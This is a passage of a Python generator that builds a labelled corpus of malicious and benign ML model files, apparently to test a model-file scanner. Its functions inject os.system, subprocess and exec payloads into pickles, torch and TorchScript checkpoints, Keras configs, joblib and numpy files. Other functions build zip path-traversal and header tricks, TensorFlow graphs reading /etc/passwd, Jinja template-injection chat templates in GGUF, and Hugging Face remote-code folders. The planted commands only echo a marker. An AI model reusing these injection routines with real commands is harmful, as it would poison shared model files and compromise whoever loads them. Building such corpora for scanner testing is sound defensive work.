        p4(dct([(u("weight"), lst(int_op(1))), (u("meta"), payload)])),
        "the result kept as a value of the returned dict",
    )


def pickle_broken_tail(c: Corpus) -> None:
    fam = "pickle-broken-tail"
    payload = proto(2) + call(global_op("os", "system"), u(CMD))
    _bad(
        c,
        fam,
        "payload_then_truncated.pkl",
        payload + POP + EMPTY_DICT + u("wei")[:-2],
        "payload, then the stream is cut in the middle of a string",
    )
    _bad(
        c,
        fam,
        "payload_then_unknown_opcode.pkl",
        payload + b"\xff\xfe\xfd" + STOP,
        "payload, then an unknown opcode",
    )
    _bad(
        c,
        fam,
        "payload_then_bad_length.pkl",
        payload + POP + b"X" + struct.pack("<I", 0x7FFFFFF0) + b"short" + STOP,
        "payload, then a BINUNICODE whose length runs past the end",
    )
    _bad(
        c,
        fam,
        "payload_then_bad_memo.pkl",
        payload + POP + b"h\x63" + STOP,
        "payload, then a BINGET of a memo slot never set",
    )
    _bad(
        c,
        fam,
        "payload_then_stack_underflow.pkl",
        payload + POP + POP + POP + STOP,
        "payload, then POPs on an empty stack",
    )
    _bad(
        c,
        fam,
        "payload_stop_then_garbage.pkl",
        payload + STOP + b"\x80\x05\x95\xff\xff\xff\xff\xff\xff\xff\x7f" + b"garbage",
        "a complete payload pickle followed by a frame that claims 2^63 bytes",
    )


# -- malicious: containers and other formats ----------------------------------------------


def _torch_state_dict() -> dict[str, Any]:
    import torch

    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Linear(8, 4), torch.nn.ReLU(), torch.nn.Linear(4, 2))
    return model.state_dict()


def _zip_members(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return [(i.filename, zf.read(i)) for i in zf.infolist()]


def _write_zip(members: Iterable[tuple[str, bytes]], compress: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compress) as zf:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = compress
            zf.writestr(info, data)
    return buf.getvalue()


def _inject(original: bytes, payload: bytes) -> bytes:
    """Put `payload` (an expression left on the stack, then popped) in front of a protocol 2
    pickle, the way injection tools do: the model still loads, the payload runs first."""
    if original[:2] != proto(2):
        raise ValueError("expected a protocol 2 pickle")
    return proto(2) + payload + POP + original[2:]


def _torch_pt(payload: bytes | None = None, prefix: str | None = None) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(_torch_state_dict(), buf)
    members = _zip_members(buf.getvalue())
    out = []
    for name, data in members:
        if payload is not None and name.endswith("/data.pkl"):
            data = _inject(data, payload)
        if prefix is not None:
            name = prefix + "/" + name.split("/", 1)[1]
        out.append((name, data))
    return _write_zip(out)


def containers_torch(c: Corpus) -> None:
    import torch

    fam = "torch"
    sd = _torch_state_dict()
    buf = io.BytesIO()
    torch.save({"state_dict": sd, "hook": Reduce(os.system, (CMD,))}, buf)
    _bad(
        c,
        fam,
        "torch_save_with_payload.pt",
        buf.getvalue(),
        "torch.save itself writing a checkpoint whose dict holds an os.system reduce",
        "torch",
    )
    _bad(
        c,
        fam,
        "pytorch_model.bin",
        buf.getvalue(),
        "the same checkpoint under the Hugging Face name pytorch_model.bin",
        "torch",
    )
    _bad(
        c,
        fam,
        "data_pkl_injected.pt",
        _torch_pt(call(global_op("subprocess", "getoutput"), u(CMD))),
        "torch.save output with subprocess.getoutput injected in front of data.pkl",
        "torch",
    )
    _bad(
        c,
        fam,
        "renamed_archive_prefix.pth",
        _torch_pt(call(global_op("builtins", "exec"), u(CODE)), prefix="resnet50"),
        "torch zip with its top folder renamed, exec injected in data.pkl",
        "torch",
    )
    legacy = io.BytesIO()
    torch.save(
        {"state_dict": sd, "hook": Reduce(os.system, (CMD,))},
        legacy,
        _use_new_zipfile_serialization=False,
    )
    _bad(
        c,
        fam,
        "legacy_format.pt",
        legacy.getvalue(),
        "legacy (pre-1.6, non-zip) torch.save format with an os.system reduce",
        "torch",
    )

    class Tiny(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.fc = torch.nn.Linear(4, 2)

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return torch.relu(self.fc(x))

    scripted = io.BytesIO()
    torch.jit.save(torch.jit.trace(Tiny(), torch.zeros(1, 4)), scripted)
    members = _zip_members(scripted.getvalue())

    def script_variant(rewrite: Callable[[str, bytes], bytes]) -> bytes:
        return _write_zip((name, rewrite(name, data)) for name, data in members)

    def is_top_code(name: str) -> bool:
        return "/code/" in name and name.endswith(".py") and "/torch/nn/" not in name

    def os_system(name: str, data: bytes) -> bytes:
        if not is_top_code(name):
            return data
        text = data.decode()
        text = text.replace(
            "    fc = self.fc\n", '    fc = self.fc\n    _ = os.system("echo stockade-corpus")\n', 1
        )
        if "os.system" not in text:
            raise RuntimeError("TorchScript code layout changed; cannot inject")
        return ("import os\n" + text).encode()

    def from_file(name: str, data: bytes) -> bytes:
        if not is_top_code(name):
            return data
        text = data.decode()
        text = text.replace(
            "    fc = self.fc\n",
            '    fc = self.fc\n    leak = torch.from_file("/etc/passwd", False, 64, dtype=6)\n',
            1,
        )
        if "from_file" not in text:
            raise RuntimeError("TorchScript code layout changed; cannot inject")
        return text.encode()

    def constants(name: str, data: bytes) -> bytes:
        if name.endswith("/constants.pkl"):
            return p2(call(global_op("os", "system"), u(CMD)) + POP + EMPTY_TUPLE)
        return data

    _bad(
        c,
        fam,
        "torchscript_code_os_system.pt",
        script_variant(os_system),
        "TorchScript archive whose code/ entry calls os.system",
        "torchscript",
    )
    _bad(
        c,
        fam,
        "torchscript_code_from_file.pt",
        script_variant(from_file),
        "TorchScript archive whose code/ entry reads /etc/passwd with aten::from_file",
        "torchscript",
    )
    _bad(
        c,
        fam,
        "torchscript_constants_payload.pt",
        script_variant(constants),
        "TorchScript archive whose constants.pkl calls os.system",
        "torchscript",
    )


def _zip_local_entry(name: bytes, data: bytes, flags: int = 0, crc: int | None = None):
    """A stored local file header and data; returns (bytes, crc, name)."""
    crc_value = zlib.crc32(data) if crc is None else crc
    header = struct.pack(
        "<IHHHHHIIIHH",
        0x04034B50,
        20,
        flags,
        0,
        0,
        0x5821,
        crc_value,
        len(data),
        len(data),
        len(name),
        0,
    )
    return header + name + data, crc_value


def _zip_by_hand(entries: list[dict[str, Any]], central: bool = True, junk: bytes = b"") -> bytes:
    """A zip written field by field, so headers can disagree the way tricks need. With
    `junk`, the bytes go in front and the offsets stay relative to the zip itself, as when
    a stub is prepended with `cat`."""
    shift = len(junk)
    out = bytearray(junk)
    records = []
    for entry in entries:
        offset = len(out)
        local, crc = _zip_local_entry(
            entry["local_name"], entry["data"], entry.get("flags", 0), entry.get("crc")
        )
        out += local
        records.append((entry, offset, crc))
    if not central:
        return bytes(out)
    cd_start = len(out)
    for entry, offset, crc in records:
        name = entry.get("central_name", entry["local_name"])
        out += struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            20,
            20,
            entry.get("flags", 0),
            0,
            0,
            0x5821,
            crc,
            len(entry["data"]),
            len(entry["data"]),
            len(name),
            0,
            0,
            0,
            0,
            0,
            offset - shift,
        )
        out += name
    cd_size = len(out) - cd_start
    out += struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, len(records), len(records), cd_size, cd_start - shift, 0
    )
    return bytes(out)


def containers_zip_tricks(c: Corpus) -> None:
    fam = "zip-tricks"
    evil = pickle.dumps(Reduce(os.system, (CMD,)), protocol=2)
    members = _zip_members(_torch_pt())

    def torch_like(data_pkl: dict[str, Any]) -> list[dict[str, Any]]:
        out = []
        for name, data in members:
            if name.endswith("/data.pkl"):
                out.append({"local_name": name.encode(), "data": evil, **data_pkl})
            else:
                out.append({"local_name": name.encode(), "data": data})
        return out

    _bad(
        c,
        fam,
        "bad_crc.pt",
        _zip_by_hand(torch_like({"crc": 0xDEADBEEF})),
        "torch zip whose data.pkl has a wrong CRC-32 (zipfile refuses to read it)",
        "zip",
    )
    _bad(
        c,
        fam,
        "encrypted_flag_stored.pt",
        _zip_by_hand(torch_like({"flags": 0x1})),
        "data.pkl stored in clear but flagged encrypted (flag bit 0)",
        "zip",
    )
    _bad(
        c,
        fam,
        "local_central_name_mismatch.pt",
        _zip_by_hand(
            [
                {
                    **e,
                    "central_name": e["local_name"],
                    "local_name": e["local_name"].replace(b"data.pkl", b"data.pkX"),
                }
                if e["local_name"].endswith(b"/data.pkl")
                else e
                for e in torch_like({})
            ]
        ),
        "local header names data.pkX, central directory names data.pkl",
        "zip",
    )
    _bad(
        c,
        fam,
        "missing_central_directory.pt",
        _zip_by_hand(torch_like({}), central=False),
        "local headers only, no central directory",
        "zip",
    )
    _bad(
        c,
        fam,
        "junk_prefix.zip",
        _zip_by_hand([{"local_name": b"model.pkl", "data": evil}], junk=b"#!/bin/sh\n" * 50),
        "zip with 500 bytes of junk before it (offsets not adjusted)",
        "zip",
    )
    _bad(
        c,
        fam,
        "path_traversal_member.zip",
        _write_zip([("../../tmp/stockade-corpus.pkl", evil)]),
        "member named ../../tmp/..., holding an os.system pickle",
        "zip",
    )
    _bad(
        c,
        fam,
        "duplicate_member_names.pt",
        _write_zip(
            [
                *((n, d) for n, d in members if not n.endswith("/data.pkl")),
                *((n, d) for n, d in members if n.endswith("/data.pkl")),
                *((n, evil) for n, _ in members if n.endswith("/data.pkl")),
            ]
        ),
        "two data.pkl entries: the benign first, an os.system pickle second",
        "zip",
    )


def containers_archives(c: Corpus) -> None:
    fam = "archives"
    evil = pickle.dumps(Reduce(os.system, (CMD,)), protocol=4)

    def seven_zip() -> None:
        import py7zr

        buf = io.BytesIO()
        with py7zr.SevenZipFile(buf, "w") as archive:
            archive.writestr(evil, "model.pkl")
        _bad(c, fam, "model.7z", buf.getvalue(), "7z archive holding an os.system pickle", "7z")

    c.attempt("7z archive", seven_zip)
    for name, mode in (("model.tar", "w"), ("model.tar.gz", "w:gz")):
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode=mode) as tar:
            info = tarfile.TarInfo("model/model.pkl")
            info.size = len(evil)
            info.mtime = 1_700_000_000
            tar.addfile(info, io.BytesIO(evil))
        _bad(
            c,
            fam,
            name,
            buf.getvalue(),
            f"{name.split('.', 1)[1]} holding an os.system pickle",
            "tar",
        )
    _bad(c, fam, "model.pkl.gz", gzip.compress(evil, mtime=0), "gzip-compressed pickle", "gzip")
    _bad(
        c,
        fam,
        "zip_in_zip.zip",
        _write_zip([("inner.zip", _write_zip([("m.pkl", evil)]))]),
        "zip inside a zip, holding an os.system pickle",
        "zip",
    )
    _bad(
        c,
        fam,
        "torch_in_zip.zip",
        _write_zip(
            [("checkpoints/model.pt", _torch_pt(call(global_op("os", "system"), u(CMD))))],
            zipfile.ZIP_DEFLATED,
        ),
        "a poisoned torch checkpoint inside a deflated zip",
        "zip",
    )


def containers_joblib(c: Corpus) -> None:
    import joblib

    fam = "joblib"
    payload = {"model": Reduce(os.system, (CMD,)), "version": "1.0"}
    for compress in ("zlib", "gzip", "bz2", "xz", "lzma", "lz4"):
        buf = io.BytesIO()
        joblib.dump(payload, buf, compress=(compress, 3))
        _bad(
            c,
            fam,
            f"compressed_{compress}.joblib",
            buf.getvalue(),
            f"joblib.dump(..., compress=('{compress}', 3)) of an os.system reduce",
            "joblib",
        )
    buf = io.BytesIO()
    joblib.dump(payload, buf)
    _bad(
        c,
        fam,
        "uncompressed.joblib",
        buf.getvalue(),
        "joblib.dump of an os.system reduce, uncompressed",
        "joblib",
    )
    raw = pickle.dumps(Reduce(os.system, (CMD,)), protocol=4)
    _bad(
        c,
        fam,
        "zlib_raw_stream.pkl.z",
        zlib.compress(raw),
        "a bare zlib stream of an os.system pickle",
        "zlib",
    )
    _bad(c, fam, "bz2_raw_stream.pkl.bz2", bz2.compress(raw), "bz2 of an os.system pickle", "bz2")
    _bad(c, fam, "xz_raw_stream.pkl.xz", lzma.compress(raw), "xz of an os.system pickle", "xz")


def containers_numpy(c: Corpus) -> None:
    import numpy as np

    fam = "numpy"
    arr = np.empty(3, dtype=object)
    arr[0] = 1.0
    arr[1] = Reduce(os.system, (CMD,))
    arr[2] = "layer"
    buf = io.BytesIO()
    np.save(buf, arr, allow_pickle=True)
    _bad(
        c,
        fam,
        "object_array.npy",
        buf.getvalue(),
        "object-dtype .npy holding an os.system reduce (loaded with allow_pickle=True)",
        "npy",
    )
    npz = io.BytesIO()
    np.savez(npz, weights=np.arange(6, dtype=np.float32), meta=arr)
    _bad(c, fam, "object_array.npz", npz.getvalue(), ".npz with an object-array member", "npz")
    npz = io.BytesIO()
    np.savez_compressed(npz, weights=np.arange(6, dtype=np.float32), meta=arr)
    _bad(
        c,
        fam,
        "object_array_compressed.npz",
        npz.getvalue(),
        "compressed .npz with an object-array member",
        "npz",
    )


def containers_keras(c: Corpus) -> None:
    fam = "keras"

    def lambda_keras() -> None:
        import keras

        fn = eval(
            "lambda x, run=False: __import__('os').system('echo stockade-corpus') if run else x"
        )
        model = keras.Sequential(
            [keras.Input((4,)), keras.layers.Dense(3), keras.layers.Lambda(fn)]
        )
        target = c.path("malicious", fam, "lambda_layer.keras")
        model.save(target)
        c.record(
            "malicious",
            fam,
            target,
            "Keras v3 .keras whose Lambda layer holds marshalled "
            "code calling os.system (written by keras)",
            "keras",
        )
        h5 = c.path("malicious", fam, "lambda_layer_legacy.h5")
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            model.save(h5)
        c.record(
            "malicious",
            fam,
            h5,
            "legacy HDF5 model whose model_config has the Lambda (written by keras)",
            "keras-h5",
        )

    c.attempt("keras Lambda models", lambda_keras)

    def edited_keras() -> None:
        import keras

        model = keras.Sequential(
            [keras.Input((4,)), keras.layers.Dense(3, activation="relu"), keras.layers.Dense(2)]
        )
        clean = c.path("malicious", fam, "_clean.keras")
        model.save(clean)
        members = _zip_members(clean.read_bytes())
        clean.unlink()
        config = json.loads(dict(members)["config.json"])
        dense = [
            i
            for i, layer in enumerate(config["config"]["layers"])
            if layer["class_name"] == "Dense"
        ]

        def with_config(cfg: dict[str, Any]) -> bytes:
            return _write_zip(
                [(n, json.dumps(cfg).encode() if n == "config.json" else d) for n, d in members],
                zipfile.ZIP_DEFLATED,
            )

        cfg = json.loads(json.dumps(config))
        cfg["config"]["layers"][dense[0]]["config"]["activation"] = {
            "module": "os",
            "class_name": "function",
            "config": "system",
            "registered_name": "system",
        }
        _bad(
            c,
            fam,
            "activation_module_os.keras",
            with_config(cfg),
            "a Dense activation serialized as function `system` from module `os`",
            "keras",
        )
        cfg = json.loads(json.dumps(config))
        layer = cfg["config"]["layers"][dense[1]]
        layer["module"], layer["class_name"] = "subprocess", "Popen"
        layer["registered_name"] = "subprocess>Popen"
        layer["config"] = {"args": ARGV}
        _bad(
            c,
            fam,
            "layer_module_subprocess.keras",
            with_config(cfg),
            "a layer whose module/class_name/registered_name point at subprocess.Popen",
            "keras",
        )

    c.attempt("edited keras configs", edited_keras)

    def hand_h5() -> None:
        import h5py

        code = base64.b64encode(marshal.dumps(compile(OS_CODE, "<corpus>", "eval"))).decode()
        config = {
            "class_name": "Sequential",
            "config": {
                "name": "sequential",
                "layers": [
                    {
                        "class_name": "InputLayer",
                        "config": {
                            "batch_input_shape": [None, 4],
                            "dtype": "float32",
                            "name": "input_1",
                        },
                    },
                    {
                        "class_name": "Lambda",
                        "config": {
                            "name": "lambda",
                            "trainable": True,
                            "function": [code, None, None],
                            "function_type": "lambda",
                            "output_shape": None,
                            "arguments": {},
                        },
                    },
                ],
            },
        }
        target = c.path("malicious", fam, "keras2_lambda.h5")
        with h5py.File(target, "w") as f:
            f.attrs["keras_version"] = "2.12.0"
            f.attrs["backend"] = "tensorflow"
            f.attrs["model_config"] = json.dumps(config)
            f.create_group("model_weights")
        c.record(
            "malicious",
            fam,
            target,
            "Keras 2-style .h5 whose model_config has a Lambda "
            "with base64 marshalled code (written with h5py)",
            "keras-h5",
        )

    c.attempt("hand-written keras h5", hand_h5)


# -- TensorFlow SavedModel protobuf, written field by field --------------------------------


def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        byte = n & 0x7F
        n >>= 7
        if n:
            out.append(byte | 0x80)
        else:
            out.append(byte)
            return bytes(out)


def _pb_bytes(field: int, data: bytes) -> bytes:
    return _varint(field << 3 | 2) + _varint(len(data)) + data


def _pb_int(field: int, value: int) -> bytes:
    return _varint(field << 3) + _varint(value)


def _attr(key: str, value: bytes) -> bytes:
    return _pb_bytes(5, _pb_bytes(1, key.encode()) + _pb_bytes(2, value))


def _node(name: str, op: str, inputs: Iterable[str] = (), attrs: Iterable[bytes] = ()) -> bytes:
    out = _pb_bytes(1, name.encode()) + _pb_bytes(2, op.encode())
    for item in inputs:
        out += _pb_bytes(3, item.encode())
    for attr in attrs:
        out += attr
    return out


DT_FLOAT, DT_STRING = 1, 7


def _const_string(name: str, value: str) -> bytes:
    tensor = _pb_int(1, DT_STRING) + _pb_bytes(2, b"") + _pb_bytes(8, value.encode())
    return _node(
        name,
        "Const",
        attrs=[_attr("dtype", _pb_int(6, DT_STRING)), _attr("value", _pb_bytes(8, tensor))],
    )


def _saved_model(nodes: list[bytes], functions: list[bytes] = ()) -> bytes:
    graph = b"".join(_pb_bytes(1, n) for n in nodes)
    if functions:
        graph += _pb_bytes(2, b"".join(_pb_bytes(1, f) for f in functions))
    graph += _pb_bytes(4, _pb_int(1, 1645))
    meta_info = _pb_bytes(1, b"") + _pb_bytes(4, b"serve") + _pb_bytes(5, b"2.15.0")
    meta_graph = _pb_bytes(1, meta_info) + _pb_bytes(2, graph)
    return _pb_int(1, 1) + _pb_bytes(2, meta_graph)


def _function(name: str, nodes: list[bytes]) -> bytes:
    signature = _pb_bytes(1, name.encode())
    return _pb_bytes(1, signature) + b"".join(_pb_bytes(3, n) for n in nodes)


def containers_savedmodel(c: Corpus) -> None:
    fam = "tf-savedmodel"
    placeholder = _node("x", "Placeholder", attrs=[_attr("dtype", _pb_int(6, DT_FLOAT))])
    type_list = _pb_bytes(1, _pb_int(6, DT_FLOAT))
    pyfunc = _node(
        "py",
        "PyFunc",
        ["x"],
        [
            _attr("token", _pb_bytes(2, b"pyfunc_0")),
            _attr("Tin", type_list),
            _attr("Tout", type_list),
        ],
    )
    cases = {
        "pyfunc_graph": (
            _saved_model([placeholder, pyfunc]),
            "PyFunc op in the main graph (runs a registered Python callable)",
        ),
        "readfile_graph": (
            _saved_model(
                [_const_string("path", "/etc/passwd"), _node("read", "ReadFile", ["path"])]
            ),
            "ReadFile of /etc/passwd in the main graph",
        ),
        "writefile_function": (
            _saved_model(
                [placeholder],
                [
                    _function(
                        "__inference_save_1",
                        [
                            _const_string("path", "/tmp/stockade-corpus.txt"),
                            _const_string("contents", "stockade-corpus"),
                            _node("write", "WriteFile", ["path", "contents"]),
                        ],
                    )
                ],
            ),
            "WriteFile inside a function of the graph's function library",
        ),
        "eager_pyfunc_function": (
            _saved_model(
                [placeholder],
                [
                    _function(
                        "__inference_call_7",
                        [
                            _node(
                                "eager",
                                "EagerPyFunc",
                                ["x"],
                                [
                                    _attr("token", _pb_bytes(2, b"pyfunc_1")),
                                    _attr("Tin", type_list),
                                    _attr("Tout", type_list),
                                ],
                            )
                        ],
                    )
                ],
            ),
            "EagerPyFunc inside the function library",
        ),
    }
    for name, (data, technique) in cases.items():
        folder = c.path("malicious", fam, name) / "saved_model.pb"
        folder.parent.mkdir(parents=True, exist_ok=True)
        folder.write_bytes(data)
        (folder.parent / "variables").mkdir(exist_ok=True)
        c.record("malicious", fam, folder.parent, technique, "tf-savedmodel")


def containers_onnx(c: Corpus) -> None:
    import onnx
    from onnx import TensorProto, helper

    fam = "onnx"

    def model_with_external(location: str) -> onnx.ModelProto:
        weight = TensorProto()
        weight.name = "W"
        weight.data_type = TensorProto.FLOAT
        weight.dims.extend([2, 2])
        weight.data_location = TensorProto.EXTERNAL
        for key, value in (("location", location), ("offset", "0"), ("length", "16")):
            entry = weight.external_data.add()
            entry.key, entry.value = key, value
        node = helper.make_node("MatMul", ["X", "W"], ["Y"])
        graph = helper.make_graph(
            [node],
            "g",
            [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 2])],
            [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 2])],
            [weight],
        )
        return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])

    for name, location, technique in (
        (
            "external_data_traversal.onnx",
            "../../etc/passwd",
            "external data location ../../etc/passwd escapes the model folder",
        ),
        ("external_data_absolute.onnx", "/etc/passwd", "external data at an absolute path"),
    ):
        _bad(c, fam, name, model_with_external(location).SerializeToString(), technique, "onnx")
    node = helper.make_node(
        "PyOp",
        ["X"],
        ["Y"],
        domain="ai.onnx.contrib",
        CustomType="PyExec",
        module="os",
        function="system",
    )
    graph = helper.make_graph(
        [node],
        "g",
        [helper.make_tensor_value_info("X", TensorProto.STRING, [1])],
        [helper.make_tensor_value_info("Y", TensorProto.STRING, [1])],
    )
    model = helper.make_model(
        graph,
        opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("ai.onnx.contrib", 1)],
    )
    _bad(
        c,
        fam,
        "custom_domain_pyop.onnx",
        model.SerializeToString(),
        "a PyOp node in the ai.onnx.contrib custom domain (onnxruntime-extensions Python op)",
        "onnx",
    )


SSTI_TEMPLATES = {
    "ssti_subclasses.gguf": (
        "{% for m in messages %}{{ m['content'] }}{% endfor %}"
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "chat template walking ''.__class__.__mro__[1].__subclasses__()",
    ),
    "ssti_cycler_globals.gguf": (
        "{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] }}{% endfor %}"
        "{{ cycler.__init__.__globals__.os.popen('echo stockade-corpus').read() }}",
        "chat template reaching os.popen through cycler.__init__.__globals__",
    ),
    "ssti_lipsum_builtins.gguf": (
        "{{ bos_token }}{% set x = lipsum.__globals__['__builtins__']['__import__']('os') %}"
        "{% for m in messages %}{{ m['content'] }}{% endfor %}",
        "chat template importing os through lipsum.__globals__['__builtins__']",
    ),
    "ssti_attr_concat.gguf": (
        "{% set a = '__cla' ~ 'ss__' %}{% set b = '__subcl' ~ 'asses__' %}"
        "{{ (messages|attr(a)|attr('__base__')|attr(b))() }}",
        "dunder names assembled with ~ and reached with the attr filter",
    ),
    "ssti_context_reference.gguf": (
        "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.system("
        "'echo stockade-corpus') }}",
        "chat template using self._TemplateReference__context to reach os.system",
    ),
}


def containers_gguf(c: Corpus) -> None:
    import gguf
    import numpy as np

    fam = "gguf"
    for name, (template, technique) in SSTI_TEMPLATES.items():
        target = c.path("malicious", fam, name)
        writer = gguf.GGUFWriter(str(target), "llama")
        writer.add_name("corpus-ssti")
        writer.add_context_length(128)
        if name == "ssti_context_reference.gguf":
            writer.add_chat_template(
                [
                    {"name": "default", "template": GGUF_CHATML},
                    {"name": "tool_use", "template": template},
                ]
            )
        else:
            writer.add_chat_template(template)
        writer.add_tensor("token_embd.weight", np.zeros((16, 8), dtype=np.float32))
        writer.write_header_to_file()
        writer.write_kv_data_to_file()
        writer.write_tensors_to_file()
        writer.close()
        c.record("malicious", fam, target, technique, "gguf")
    header = b"GGUF" + struct.pack("<IQQ", 3, 1 << 62, 1 << 61)
    _bad(
        c,
        fam,
        "huge_counts.gguf",
        header + b"\x00" * 64,
        "GGUF header declaring 2^62 tensors and 2^61 metadata entries",
        "gguf",
    )
    key = b"tokenizer.chat_template"
    body = struct.pack("<Q", len(key)) + key + struct.pack("<IQ", 8, 1 << 40) + b"{{ x }}"
    _bad(
        c,
        fam,
        "string_length_overflow.gguf",
        b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + body,
        "a metadata string declaring 1 TiB in a tiny file",
        "gguf",
    )


def containers_hf(c: Corpus) -> None:
    import numpy as np
    from safetensors.numpy import save_file

    fam = "hf-remote-code"

    def folder(name: str, config: dict[str, Any], files: dict[str, str], technique: str):
        root = c.path("malicious", fam, name) / "config.json"
        root.parent.mkdir(parents=True, exist_ok=True)
        root.write_text(json.dumps(config, indent=2))
        for fname, text in files.items():
            (root.parent / fname).write_text(text)
        save_file(
            {"embed.weight": np.zeros((4, 4), np.float32)}, str(root.parent / "model.safetensors")
        )
        c.record("malicious", fam, root.parent, technique, "hf-folder")

    modeling = (
        "import os\n\nfrom transformers import PretrainedConfig, PreTrainedModel\n\n"
        'os.system("echo stockade-corpus")\n\n\n'
        'class CorpusConfig(PretrainedConfig):\n    model_type = "corpus"\n\n\n'
        "class CorpusModel(PreTrainedModel):\n    config_class = CorpusConfig\n"
    )
    folder(
        "auto_map_modeling",
        {
            "architectures": ["CorpusModel"],
            "model_type": "corpus",
            "auto_map": {
                "AutoConfig": "modeling_corpus.CorpusConfig",
                "AutoModel": "modeling_corpus.CorpusModel",
            },
        },
        {"modeling_corpus.py": modeling},
        "config.json auto_map to a local modeling file that calls os.system at import",
    )
    folder(
        "auto_map_other_repo",
        {
            "architectures": ["CorpusModel"],
            "model_type": "corpus",
            "auto_map": {"AutoModel": "someone/corpus-code--modeling_corpus.CorpusModel"},
        },
        {},
        "auto_map pointing at code in another repository (trust_remote_code fetches it)",
    )
    tokenization = (
        "import subprocess\n\nfrom transformers import PreTrainedTokenizer\n\n\n"
        "class CorpusTokenizer(PreTrainedTokenizer):\n"
        "    def __init__(self, **kwargs):\n"
        '        subprocess.run(["echo", "stockade-corpus"], check=False)\n'
        "        super().__init__(**kwargs)\n"
    )
    root = c.path("malicious", fam, "tokenizer_auto_map") / "tokenizer_config.json"
    root.parent.mkdir(parents=True, exist_ok=True)
    root.write_text(
        json.dumps(
            {
                "tokenizer_class": "CorpusTokenizer",
                "auto_map": {"AutoTokenizer": ["tokenization_corpus.CorpusTokenizer", None]},
            },
            indent=2,
        )
    )
    (root.parent / "tokenization_corpus.py").write_text(tokenization)
    (root.parent / "config.json").write_text(json.dumps({"model_type": "llama"}))
    c.record(
        "malicious",
        fam,
        root.parent,
        "tokenizer_config.json auto_map to a tokenizer that runs a subprocess",
        "hf-folder",
    )


def containers_safetensors(c: Corpus) -> None:
    fam = "safetensors"

    def st(header: dict[str, Any], data: bytes, length: int | None = None) -> bytes:
        raw = json.dumps(header).encode()
        raw += b" " * (-len(raw) % 8)
        return struct.pack("<Q", len(raw) if length is None else length) + raw + data

    f32 = b"\x00" * 32
    _bad(
        c,
        fam,
        "overlapping_offsets.safetensors",
        st(
            {
                "a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
                "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]},
            },
            f32,
        ),
        "two tensors whose byte ranges overlap",
        "safetensors",
    )
    _bad(
        c,
        fam,
        "out_of_bounds.safetensors",
        st({"a": {"dtype": "F32", "shape": [1 << 20], "data_offsets": [0, 4 << 20]}}, f32),
        "a tensor whose offsets run past the end of the file",
        "safetensors",
    )
    _bad(
        c,
        fam,
        "huge_header_length.safetensors",
        st({"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}, f32, 1 << 62),
        "header length field of 2^62",
        "safetensors",
    )
    _bad(
        c,
        fam,
        "header_past_end.safetensors",
        st({"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}, f32, 100_000),
        "header length longer than the file",
        "safetensors",
    )
    _bad(
        c,
        fam,
        "shape_size_mismatch.safetensors",
        st(
            {
                "a": {"dtype": "F32", "shape": [1000, 1000], "data_offsets": [0, 16]},
                "b": {"dtype": "F32", "shape": [4], "data_offsets": [16, 32]},
            },
            f32,
        ),
        "declared shape needs 4 MB but the offsets give 16 bytes",
        "safetensors",
    )


# -- benign: written by the real libraries ------------------------------------------------


def _good(c: Corpus, family: str, name: str, data: bytes, technique: str, fmt: str) -> None:
    c.add("benign", family, name, data, technique, fmt)


def benign_torch(c: Corpus) -> None:
    import numpy as np
    import torch

    fam = "torch"
    torch.manual_seed(0)

    def save(obj: Any, **kwargs: Any) -> bytes:
        buf = io.BytesIO()
        torch.save(obj, buf, **kwargs)
        return buf.getvalue()

    model = torch.nn.Sequential(
        torch.nn.Linear(16, 8),
        torch.nn.ReLU(),
        torch.nn.Dropout(0.1),
        torch.nn.Linear(8, 2),
        torch.nn.LogSoftmax(dim=1),
    )
    _good(c, fam, "state_dict.pt", save(model.state_dict()), "torch.save(state_dict)", "torch")
    _good(
        c,
        fam,
        "pytorch_model.bin",
        save(model.state_dict()),
        "torch.save(state_dict) under the Hugging Face name",
        "torch",
    )
    _good(c, fam, "whole_module.pt", save(model), "torch.save of a whole nn.Sequential", "torch")
    conv = torch.nn.Sequential(
        torch.nn.Conv2d(3, 4, 3),
        torch.nn.BatchNorm2d(4),
        torch.nn.ReLU(),
        torch.nn.AdaptiveAvgPool2d(1),
        torch.nn.Flatten(),
        torch.nn.Linear(4, 2),
    )
    _good(c, fam, "whole_conv_module.pth", save(conv), "torch.save of a conv net module", "torch")
    optimizer = torch.optim.Adam(model.parameters(), lr=1e-3)
    model(torch.randn(4, 16)).sum().backward()
    optimizer.step()
    checkpoint = {
        "epoch": 7,
        "model": model.state_dict(),
        "optimizer": optimizer.state_dict(),
        "best_acc": np.float64(0.91),
        "rng": torch.get_rng_state(),
        "history": [0.5, 0.7, 0.91],
        "classes": ("cat", "dog"),
    }
    _good(
        c,
        fam,
        "training_checkpoint.ckpt",
        save(checkpoint),
        "training checkpoint: model, Adam state, RNG state, a numpy scalar",
        "torch",
    )
    dtypes = {
        name: torch.ones(3, 3, dtype=dtype)
        for name, dtype in (
            ("bf16", torch.bfloat16),
            ("f16", torch.float16),
            ("i8", torch.int8),
            ("u8", torch.uint8),
            ("bool", torch.bool),
            ("f64", torch.float64),
            ("c64", torch.complex64),
            ("i64", torch.int64),
        )
